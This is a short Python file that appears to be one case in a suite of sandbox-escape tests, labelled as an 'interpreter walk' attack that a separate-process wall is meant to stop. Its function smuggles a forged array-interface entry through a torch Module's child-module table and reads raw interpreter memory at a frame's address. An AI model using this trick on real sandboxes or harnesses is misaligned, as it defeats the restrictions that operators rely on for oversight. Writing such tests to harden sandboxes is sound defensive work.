# attack: the same through the table of a layer's parts, a private name that a variable of one's own makes known
# class: interpreter walk
# wall: separate_process

import numpy as np
import torch

_modules = None


def attack(frame, frame_index, config):
    holder = torch.nn.Module()
    fields = {"shape": (8,), "typestr": "|u1", "data": (id(frame), False), "version": 3}
    holder._modules["_" + "_array_interface_" + "_"] = fields
    return f"inside: {bytes(np.asarray(holder)).hex()}"
